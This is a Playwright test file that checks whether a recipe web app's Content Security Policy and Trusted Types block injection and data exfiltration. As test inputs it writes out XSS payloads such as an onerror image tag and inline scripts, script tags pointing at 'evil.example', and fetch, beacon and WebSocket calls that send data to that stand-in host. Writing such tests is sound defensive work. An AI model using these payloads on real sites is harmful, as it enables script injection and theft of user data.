import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { addIngredients, expect, parts, TOKEN, test } from '../support/browser'
import { reply } from '../support/service'
import { build } from '../support/site'

/** An address of another host than the page's. */
const FOREIGN = 'https://evil.example'

/** What the browser refused by the page's policy so far: directives. */
const refused = (page: Page) =>
  page.evaluate<string[]>(() => Reflect.get(window, 'refused') ?? ['nobody watches'])

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refused.push(effectiveDirective),
    )
  })
})

/** The job from the first ingredient to the recipe in a file, and once more after a failure. */
async function wholeJob(page: Page) {
  await expect(parts(page).add).toBeEnabled()
  await addIngredients(page, 'Eggs', 'Flour', 'Milk', 'Eggs')
  await page.getByRole('button', { name: 'Undo' }).click()
  await parts(page).ask.click()
  await expect(parts(page).status).toHaveText('The chef has answered.')
  await parts(page).words.getByRole('checkbox').first().check()
  const file = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Download' }).click()
  await file
}

test('the whole job with a model is within the policy', async ({ page, served, service }) => {
  service.play(
    reply(
      '# Pancakes &amp; cr&egrave;me\n\n- &frac12; egg\n- [flour](https://mill.example/)\n\n1. Whisk.',
    ),
  )
  await page.goto(served.url)
  await wholeJob(page)
  await expect(parts(page).words).toContainText('Pancakes & crème')
  await expect(parts(page).words).toContainText('½ egg')
  expect(await refused(page)).toEqual([])
})

test('the whole job with the cookbook is within the policy', async ({ page, cookbook }) => {
  await page.goto(cookbook.url)
  await wholeJob(page)
  expect(await refused(page)).toEqual([])
})

const attempts: Record<string, [directive: string, attempt: (foreign: string) => unknown]> = {
  // Of what would run, Trusted Types refuse the address already. For itself it stands in the next test.
  'a foreign script': [
    'require-trusted-types-for',
    (foreign) => {
      const script = document.createElement('script')
      script.setAttribute('src', `${foreign}/x.js`)
      document.head.append(script)
    },
  ],
  'a script in an attribute': [
    'require-trusted-types-for',
    () => document.body.setAttribute('onclick', 'window.pwned = 1'),
  ],
  'a text that is run': [
    'require-trusted-types-for',
    () => Reflect.get(window, 'setTimeout')('window.pwned = 1'),
  ],
  'a foreign picture': [
    'img-src',
    (foreign) => {
      new Image().src = `${foreign}/x.png`
    },
  ],
  'a foreign frame': [
    'frame-src',
    (foreign) => {
      const frame = document.createElement('iframe')
      frame.src = `${foreign}/`
      document.body.append(frame)
    },
  ],
  'a foreign object': [
    'require-trusted-types-for',
    (foreign) => {
      const object = document.createElement('object')
      object.setAttribute('data', `${foreign}/x.swf`)
      document.body.append(object)
    },
  ],
  'a foreign style sheet': [
    'style-src-elem',
    (foreign) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${foreign}/x.css`
      document.head.append(link)
    },
  ],
  'an inline style': [
    'style-src-elem',
    () => {
      const style = document.createElement('style')
      style.append('body { display: none }')
      document.head.append(style)
    },
  ],
  'a foreign font': ['font-src', (foreign) => new FontFace('x', `url(${foreign}/x.woff2)`).load()],
  'a foreign connection': ['connect-src', (foreign) => fetch(`${foreign}/?list=eggs`)],
  'a foreign beacon': ['connect-src', (foreign) => navigator.sendBeacon(`${foreign}/`, 'eggs')],
  'a foreign socket': [
    'connect-src',
    (foreign) => new WebSocket(`${foreign.replace('https', 'wss')}/`),
  ],
  'a form that leads elsewhere': [
    'form-action',
    (foreign) => {
      const form = document.createElement('form')
      form.action = `${foreign}/`
      document.body.append(form)
      form.submit()
    },
  ],
  'another base': [
    'base-uri',
    (foreign) => {
      const base = document.createElement('base')
      base.href = `${foreign}/`
      document.head.append(base)
    },
  ],
  'text as HTML': [
    'require-trusted-types-for',
    () => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.pwned = 1">'
    },
  ],
  'text as a document': [
    'require-trusted-types-for',
    () => document.write('<p onclick="window.pwned = 1">'),
  ],
  'a policy that trusts text': [
    'trusted-types',
    () => {
      const types: unknown = Reflect.get(window, 'trustedTypes')
      if (types instanceof Object) Reflect.get(types, 'createPolicy').call(types, 'mine', {})
    },
  ],
}

for (const [what, [directive, attempt]] of Object.entries(attempts))
  test(`the policy refuses ${what}`, async ({ page, served, said }) => {
    await page.goto(served.url)
    await expect(parts(page).add).toBeEnabled()
    await page.evaluate(attempt, FOREIGN).catch(() => 'The page was told so, too.')
    await expect.poll(() => refused(page)).toContain(directive)
    expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
    expect(page.url()).toBe(served.url)
    // The browser tells of each on the console. That of a request shows in the list of them too, but none left.
    expect(said.console.splice(0).join('\n')).toMatch(/policy|TrustedHTML|Trusted/i)
  })

test('the policy refuses what stands in the HTML itself', async ({ page, served, said }) => {
  const foreign: string[] = []
  await page.route(`${FOREIGN}/**`, (route) => {
    foreign.push(route.request().url())
    return route.fulfill({ body: 'window.pwned = 1' })
  })
  await page.route(served.url, async (route) => {
    const html = await (await route.fetch()).text()
    const added = `
      <script src="${FOREIGN}/x.js"></script>
      <script>window.pwned = 1</script>
      <script src="data:text/javascript,window.pwned = 1"></script>
      <img src="${FOREIGN}/x.png" onerror="window.pwned = 1">
      <iframe src="${FOREIGN}/"></iframe>
      <object data="${FOREIGN}/x"></object>
      <p style="color: red">`
    await route.fulfill({
      body: html.replace('</body>', `${added}</body>`),
      contentType: 'text/html',
    })
  })
  await page.goto(served.url)
  await expect(parts(page).add).toBeEnabled()
  await expect
    .poll(async () => new Set(await refused(page)))
    .toEqual(
      new Set([
        'script-src-elem',
        'script-src-attr',
        'img-src',
        'frame-src',
        'object-src',
        'style-src-attr',
      ]),
    )
  expect((await refused(page)).filter((each) => each === 'script-src-elem')).toHaveLength(3)
  expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
  expect(foreign).toEqual([])
  expect(said.console.splice(0).length).toBeGreaterThan(0)
})

test('the policy lets the page connect to itself and its service alone', async () => {
  const connect = async (settings: Parameters<typeof build>[0]) => {
    const { folder } = await build(settings)
    const html = await readFile(join(folder, 'index.html'), 'utf8')
    return /connect-src ([^;]*)/.exec(html)?.[1]
  }
  expect(await connect({})).toBe("'self'")
  expect(await connect({ VITE_HF_ACCESS_TOKEN: TOKEN })).toBe(
    "'self' https://router.huggingface.co",
  )
  expect(await connect({ VITE_INFERENCE_URL: '/v1' })).toBe("'self'")
  expect(await connect({ VITE_INFERENCE_URL: '//models.example/v1' })).toBe("'self' models.example")
  expect(await connect({ VITE_INFERENCE_URL: 'https://models.example:8443/base/v1' })).toBe(
    "'self' https://models.example:8443",
  )
})
